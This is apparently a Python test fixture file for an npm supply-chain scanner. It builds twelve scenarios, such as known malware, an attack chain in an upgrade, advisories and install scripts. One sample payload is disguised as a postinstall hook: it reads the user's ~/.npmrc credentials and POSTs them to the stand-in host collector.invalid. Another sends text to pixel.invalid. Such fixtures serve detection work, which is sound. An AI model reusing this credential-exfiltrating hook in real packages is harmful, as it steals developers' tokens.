"""Twelve situations that a person meets, each on a machine of its own with a registry on loopback."""

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from pratique.advisories.interface import Row
from pratique.core.advisory import Product, Span
from pratique.core.finding import Severity
from tests.advisories.made import about, advisory
from tests.cli.auditing import with_index
from tests.cli.running import Machine, plain
from tests.git import repository
from tests.loopback import NpmPackage, NpmRelease

TODAY = datetime.now(UTC)
_STEALS = """const fs = require('fs');
const os = require('os');
const https = require('https');

// Warm up the cache of colours.
const known = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
https.request({host: 'collector.invalid', method: 'POST'}).end(known);
"""
_BROKEN = "This text is no code, and (nothing) can be ]read of it; it is asked for all the same\n" * 9
_SENDS = """const https = require('https');

module.exports = (text) => https.get('https://pixel.invalid/collect?' + text);
"""
LOCK_VERSION = 3


@dataclass(frozen=True, slots=True)
class Situation:
    """A project, and the command that a person runs in it."""

    name: str
    title: str
    arguments: tuple[str, ...]
    make: Callable[[Machine], None]
    code: int


def _locked(
    machine: Machine,
    direct: Mapping[str, str],
    below: Mapping[str, tuple[str, str]] | None = None,
    others: Mapping[str, object] | None = None,
) -> None:
    """Write a manifest and a lock; `below` maps a transitive dependency to its version and to what asks for it."""
    below = below or {}
    manifest = {"name": "app", "version": "1.0.0", "dependencies": dict(direct)}
    packages: dict[str, object] = {"": manifest}
    for name, version in {**direct, **{name: version for name, (version, _) in below.items()}}.items():
        asks = {other: version for other, (version, asker) in below.items() if asker == name}
        packages[f"node_modules/{name}"] = {
            "version": version,
            "resolved": machine.registry.npm_tarball_url(name, version),
            "integrity": machine.registry.npm_integrity(name, version),
            **({"dependencies": asks} if asks else {}),
        }
    packages.update(others or {})
    lock = {"name": "app", "version": "1.0.0", "lockfileVersion": LOCK_VERSION, "packages": packages}
    machine.write("package.json", json.dumps(manifest, indent=2))
    machine.write("package-lock.json", json.dumps(lock, indent=2))


def _clean(machine: Machine) -> None:
    machine.registry.put_npm(plain("win-only", "1.0.0"))
    entry = {
        "version": "1.0.0",
        "resolved": machine.registry.npm_tarball_url("win-only", "1.0.0"),
        "integrity": machine.registry.npm_integrity("win-only", "1.0.0"),
        "optional": True,
        "os": ["aix"],
    }
    _locked(machine, {"calm": "1.0.1", "@acme/tool": "2.0.0"}, others={"node_modules/win-only": entry})


def _cooldown(machine: Machine) -> None:
    young = TODAY - timedelta(hours=20)
    machine.registry.put_npm(plain("fresh-colours", "4.1.0", published_at=young))
    machine.registry.put_npm(plain("fresh-below", "0.3.2", published_at=young))
    _locked(machine, {"calm": "1.0.1"})
    machine.run("check")
    _locked(machine, {"calm": "1.1.0", "fresh-colours": "4.1.0"}, {"fresh-below": ("0.3.2", "calm")})


def _malware(machine: Machine) -> None:
    releases = tuple(
        NpmRelease(version=version, files={"index.js": "1\n"}, manifest=manifest)
        for version, manifest in (("3.3.5", {}), ("3.3.6", {"dependencies": {"flatmap-stream": "^0.1.0"}}))
    )
    machine.registry.put_npm(NpmPackage(name="event-stream", releases=releases))
    machine.registry.put_npm(plain("flatmap-stream", "0.1.1"))
    _locked(
        machine, {"calm": "1.0.1", "event-stream": "3.3.6"}, {"flatmap-stream": ("0.1.1", "event-stream")}
    )


def _attack(machine: Machine) -> None:
    hook = {"scripts": {"postinstall": "node lib/warm.js"}}
    releases = (
        NpmRelease(version="2.0.0", files={"index.js": "1\n"}),
        NpmRelease(version="2.0.1", files={"index.js": "1\n", "lib/warm.js": _STEALS}, manifest=hook),
    )
    machine.registry.put_npm(NpmPackage(name="tiny-colours", releases=releases))
    _locked(machine, {"calm": "1.0.1"}, {"tiny-colours": ("2.0.0", "calm")})
    machine.run("check")
    _locked(machine, {"calm": "1.0.1"}, {"tiny-colours": ("2.0.1", "calm")})


def _advisory(machine: Machine) -> None:
    rows: tuple[Row, ...] = (
        advisory(
            "GHSA-aaaa-bbbb-cccc",
            about(Product("npm", "calm"), Span(high="1.1.0")),
            aliases=("CVE-2026-1000",),
            severity=Severity.HIGH,
            score=7.5,
            summary="Regular expression denial of service in the parser",
        ),
    )
    with_index(rows)
    _locked(machine, {"@acme/tool": "2.0.0"}, {"calm": ("1.0.1", "@acme/tool")})


def _incomplete(machine: Machine) -> None:
    machine.registry.put_npm(
        NpmPackage(name="odd", releases=(NpmRelease(version="1.2.0", files={"index.js": _BROKEN}),))
    )
    _locked(machine, {"calm": "1.0.1", "odd": "1.2.0"})


def _unreadable(machine: Machine) -> None:
    _locked(machine, {"calm": "1.0.1"})
    machine.write("package-lock.json", '{"lockfileVersion": 3, "packages": {')


def _install_script(machine: Machine) -> None:
    hook = {"scripts": {"postinstall": "node lib/build.js"}}
    releases = (
        NpmRelease(version="5.0.0", files={"index.js": "1\n"}),
        NpmRelease(
            version="5.1.0",
            files={"index.js": "1\n", "lib/build.js": "console.log('built')\n"},
            manifest=hook,
        ),
    )
    machine.registry.put_npm(NpmPackage(name="builder", releases=releases))
    git = repository(machine.folder)
    _locked(machine, {"calm": "1.0.1", "builder": "5.0.0"})
    git.commit()
    _locked(machine, {"calm": "1.1.0", "builder": "5.1.0"})


def _upgrade(machine: Machine) -> None:
    releases = (
        NpmRelease(
            version="1.0.0", files={"index.js": "module.exports = (text) => text;\n", "README.md": "a\n"}
        ),
        NpmRelease(
            version="1.1.0",
            files={"index.js": _SENDS, "README.md": "ab\n"},
            manifest={"dependencies": {"calm": "^1.0.0"}},
        ),
    )
    machine.registry.put_npm(NpmPackage(name="louder", releases=releases))


def _exposed(machine: Machine) -> None:
    git = repository(machine.folder)
    machine.registry.put_npm(plain("event-stream", "3.3.5", "3.3.6"))
    _locked(machine, {"calm": "1.0.1"}, {"event-stream": ("3.3.6", "calm")})
    git.commit(at="2018-10-01T09:00:00Z")
    _locked(machine, {"calm": "1.0.1"}, {"event-stream": ("3.3.5", "calm")})
    git.commit(at="2018-11-26T18:00:00Z")


def _nothing(_: Machine) -> None:
    """The machine has what is asked for."""


SITUATIONS = (
    Situation("clean", "A clean project", ("check",), _clean, 0),
    Situation("cooldown", "New releases in cooldown", ("check",), _cooldown, 5),
    Situation("malware", "Known malware", ("check",), _malware, 1),
    Situation("attack", "An attack chain in an upgrade", ("check",), _attack, 1),
    Situation("advisory", "An advisory with a fix", ("audit",), _advisory, 1),
    Situation("incomplete", "Code that could not be analysed", ("check",), _incomplete, 3),
    Situation("unreadable", "A lockfile that cannot be read", ("check",), _unreadable, 3),
    Situation(
        "install-script",
        "A change that brings an install script",
        ("check", "--since", "main"),
        _install_script,
        1,
    ),
    Situation("diff", "What an upgrade changes", ("diff", "louder@1.0.0", "louder@1.1.0"), _upgrade, 0),
    Situation(
        "exposed",
        "A bad release in the history of a lockfile",
        ("exposed", "event-stream-2018", "."),
        _exposed,
        1,
    ),
    Situation("not-found", "A bad release that is nowhere", ("exposed", "axios@1.14.1", "."), _exposed, 0),
    Situation("inspect", "One clean package", ("inspect", "calm@1.1.0"), _nothing, 0),
)
